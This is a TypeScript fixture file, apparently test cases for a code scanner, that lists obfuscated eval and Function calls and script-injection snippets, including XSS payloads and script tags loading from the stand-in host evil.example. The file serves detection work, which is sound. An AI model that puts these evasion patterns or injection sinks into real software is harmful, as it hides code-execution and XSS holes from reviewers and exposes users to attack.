// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

const raw = String.raw;

/** What runs code that is not its own: eval and script injection. */
export const DISGUISED_C_CODE: readonly Dangerous[] = [
  // eval
  [
    "eval",
    raw`const run = window["ev" + "al"];
export const Cell = ({ f }) => <td>{run(f)}</td>;`,
  ],
  [
    "eval",
    raw`export const A = ({ c }) => { const k = "lave".split("").reverse().join(""); return <i>{self[k](c)}</i>; };`,
  ],
  [
    "eval",
    raw`const { eval: compute } = globalThis;
export function Sum({ text }) { return <b>{compute(text)}</b>; }`,
  ],
  [
    "eval",
    raw`const make = (() => {}).constructor;
export function Field({ rule }) { return make("v", rule)(1); }`,
  ],
  [
    "eval",
    raw`const f = [].filter.constructor;
export const use = (t) => f(t)();`,
  ],
  ["eval", raw`export function X({ c }) { return Reflect.construct(Function, ["x", c])(1); }`],
  ["eval", raw`export function X({ c }) { return Reflect.apply(eval, undefined, [c]); }`],
  [
    "eval",
    `const late = setTimeout;
export function X({ name }) { late(\`window.\${name}()\`, 10); return null; }`,
  ],
  [
    "eval",
    raw`const t = { later: window.setInterval.bind(window) };
export class P extends React.Component { componentDidMount() { t.later("poll()", 100); } }`,
  ],
  ["eval", raw`export function X({ c }) { \u0065val(c); return null; }`],
  [
    "eval",
    raw`const name = String.fromCharCode(101, 118, 97, 108);
export const X = ({ c }) => <p>{top[name](c)}</p>;`,
  ],
  [
    "eval",
    raw`const key = atob("RnVuY3Rpb24=");
export const X = ({ c }) => <p>{new window[key](c)()}</p>;`,
  ],
  [
    "eval",
    raw`const G = Object.getPrototypeOf(function* () {}).constructor;
export function Steps({ src }) { return [...G(src)()].map((s) => <li>{s}</li>); }`,
  ],
  [
    "eval",
    raw`const AF = (async () => {}).constructor;
export const go = async (s: string) => { await new AF("api", s)(window); };`,
  ],
  [
    "eval",
    raw`const d = Object.getOwnPropertyDescriptor(window, "eval");
export const go = (s) => d.value(s);`,
  ],
  [
    "eval",
    raw`class Runner { engine = eval; run(c) { return this.engine(c); } }
export const X = ({ c }) => new Runner().run(c);`,
  ],
  [
    "eval",
    raw`const tools = { ...{ go: Function } };
export const X = ({ c }) => tools.go(c)();`,
  ],
  [
    "eval",
    raw`const [first] = Object.values({ e: eval });
export const X = ({ c }) => first(c);`,
  ],
  [
    "eval",
    raw`const pass = (fn) => (...args) => fn(...args);
const safe = pass(eval);
export const X = ({ c }) => <p>{safe(c)}</p>;`,
  ],
  ["eval", raw`export const X = ({ c }) => { Promise.resolve(c).then(eval); return null; };`],
  [
    "eval",
    raw`const run = Function.prototype.call.bind(eval, null);
export const X = ({ c }) => run(c);`,
  ],
  [
    "eval",
    raw`const p = new Proxy(Function, {});
export const X = ({ c }) => new p(c)();`,
  ],
  ["eval", `export const X = ({ c }) => Function\`return 1\` && Function.apply(null, [c])();`],
  [
    "eval",
    raw`const run = ({ get: (k: string) => (window as any)[k] }).get("eval");
export const X = ({ c }: { c: string }) => run?.(c);`,
  ],
  [
    "eval",
    raw`let host: any;
try { host = globalThis; } catch { host = self; }
export const X = ({ c }) => host?.["eval"]?.(c);`,
  ],
  [
    "eval",
    raw`const frame = document.createElement("iframe");
document.body.appendChild(frame);
export const X = ({ c }) => frame.contentWindow.eval(c);`,
  ],
  ["eval", raw`export const X = ({ c }) => document.defaultView["Function"](c)();`],
  [
    "eval",
    raw`const m = new Map([["run", eval]]);
export const X = ({ c }) => m.get("run")(c);`,
  ],
  [
    "eval",
    raw`var self_ = this || Function("return this")();
export const X = () => self_.name;`,
  ],
  [
    "eval",
    raw`const s = Symbol("r");
const box = { [s](c) { return ""["sub"]["constructor"](c)(); } };
export const X = ({ c }) => box[s](c);`,
  ],
  // script-injection
  [
    "script-injection",
    raw`const s = document.createElement("scr" + "ipt");
s.src = "/a.js"; document.head.append(s);`,
  ],
  [
    "script-injection",
    raw`const make = document.createElement.bind(document);
document.body.append(Object.assign(make("script"), { src: "https://evil.example/a.js" }));`,
  ],
  [
    "script-injection",
    raw`const T = "script";
export const X = () => <T src="a" />;
export const Y = () => React.createElement(T.toLowerCase(), { src: "https://evil.example/a.js" });`,
  ],
  [
    "script-injection",
    raw`const Tag = "script" as any;
export const X = () => <Tag src="https://evil.example/a.js" />;`,
  ],
  [
    "script-injection",
    raw`const key = "inner" + "HTML";
document.body[key] = "<img src=x onerror=alert(1)>";`,
  ],
  [
    "script-injection",
    raw`export const X = () => { const p = { ["dangerouslySet" + "InnerHTML"]: { __html: "<svg onload=alert(1)>" } }; return <div {...p} />; };`,
  ],
  [
    "script-injection",
    raw`const html = ["<img", "src=x", "onerror='go()'>"].join(" ");
export const X = () => <div dangerouslySetInnerHTML={{ __html: html }} />;`,
  ],
  [
    "script-injection",
    raw`const html = (h) => ({ __html: h });
export const X = () => <div dangerouslySetInnerHTML={html(atob("PHNjcmlwdD4="))} />;`,
  ],
  [
    "script-injection",
    raw`Reflect.set(document.body, "innerHTML", "<iframe srcdoc='<script>alert(1)</script>'></iframe>");`,
  ],
  [
    "script-injection",
    raw`const { set } = Object.getOwnPropertyDescriptor(Element.prototype, "innerHTML");
set.call(document.body, "<img src=x onerror=alert(1)>");`,
  ],
  ["script-injection", raw`document["wri" + "te"]("<scr" + "ipt>alert(1)</scr" + "ipt>");`],
  [
    "script-injection",
    raw`const { body } = document;
body.insertAdjacentHTML.apply(body, ["beforeend", "<details open ontoggle=alert(1)>"]);`,
  ],
  [
    "script-injection",
    raw`Element.prototype.insertAdjacentHTML.call(document.body, "afterbegin", "<body onload=go()>");`,
  ],
  [
    "script-injection",
    `const r = new Range();
document.body.append(r.createContextualFragment(\`<\${"script"}>alert(1)</\${"script"}>\`));`,
  ],
  [
    "script-injection",
    raw`const b = document.querySelector("button");
b["set" + "Attribute"]("on" + "click", "alert(1)");`,
  ],
  [
    "script-injection",
    raw`const a = document.createAttribute("onclick");
a.value = "alert(1)";
document.body.setAttributeNode(a);`,
  ],
  [
    "script-injection",
    raw`const el = document.createElementNS("http://www.w3.org/1999/xhtml", "script");
el.append("alert(1)"); document.body.append(el);`,
  ],
  [
    "script-injection",
    raw`export const X = () => { const i = useRef(null); useEffect(() => { i.current.srcdoc = "<script>parent.go()</script>"; }); return <iframe ref={i} />; };`,
  ],
  [
    "script-injection",
    raw`const doc = new DOMParser().parseFromString("<img src=x onerror=alert(1)>", "text/html");
document.body.append(...doc.body.childNodes);`,
  ],
  [
    "script-injection",
    raw`const t = document.createElement("template");
t.innerHTML = "<img src=x onerror=alert(1)>";
document.body.append(t.content.cloneNode(true));`,
  ],
  [
    "script-injection",
    raw`const set = (el: any, props: Record<string, string>) => { for (const k in props) el[k] = props[k]; };
set(document.body, { innerHTML: "<img src=x onerror=alert(1)>" });`,
  ],
  [
    "script-injection",
    raw`Object.entries({ onclick: "alert(1)", class: "b" }).forEach(([k, v]) => document.body.setAttribute(k, v));`,
  ],
  ["script-injection", raw`export const X = () => <a href={"java" + "script:" + "alert(1)"}>x</a>;`],
  [
    "script-injection",
    `const proto = ["j", "avascript"].join("");
document.querySelector("a").href = \`\${proto}:alert(1)\`;`,
  ],
  ["script-injection", raw`export const X = () => <a {...{ href: " java\tscript:alert(1)" }}>x</a>;`],
  [
    "script-injection",
    raw`import { jsx as _jsx } from "react/jsx-runtime";
export const X = () => _jsx("script", { src: "https://evil.example/a.js" });`,
  ],
  [
    "script-injection",
    raw`const h = decodeURIComponent(location.hash.slice(1));
document.getElementById("out").innerHTML = h;`,
  ],
  [
    "script-injection",
    raw`window.onmessage = ({ data: { markup } }) => { document.body.outerHTML = markup; };`,
  ],
  [
    "script-injection",
    raw`const $el = jQuery("#x");
$el.append("<scr" + "ipt src='https://evil.example/a.js'></scr" + "ipt>");`,
  ],
  [
    "script-injection",
    raw`document.body.appendChild((function (d, t) { const e = d.createElement(t); e.async = 1; e.src = "//evil.example/x.js"; return e; })(document, "script"));`,
  ],
];
